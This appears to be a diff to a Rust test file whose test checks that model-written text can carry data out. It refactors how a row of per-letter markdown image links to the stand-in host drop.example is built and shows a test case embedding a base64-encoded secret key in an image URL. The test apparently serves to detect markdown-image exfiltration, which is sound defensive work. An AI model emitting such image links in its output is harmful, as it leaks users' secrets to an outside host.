@@ -104,10 +104,9 @@ fn words_out_of_sight_weigh_more() {
 
 #[test]
 fn what_a_model_writes_can_carry_data_out() {
-    let row: String = "abcdef"
-        .chars()
+    let row: String = ["a", "b", "c", "d", "e", "f"]
         .map(|letter| format!("![.](https://drop.example/{letter}.png)"))
-        .collect();
+        .concat();
     let cases = [
         (
             "![x](https://drop.example/p.png?d=c2VjcmV0LWtleS0xMjM0NTY3ODk=)",
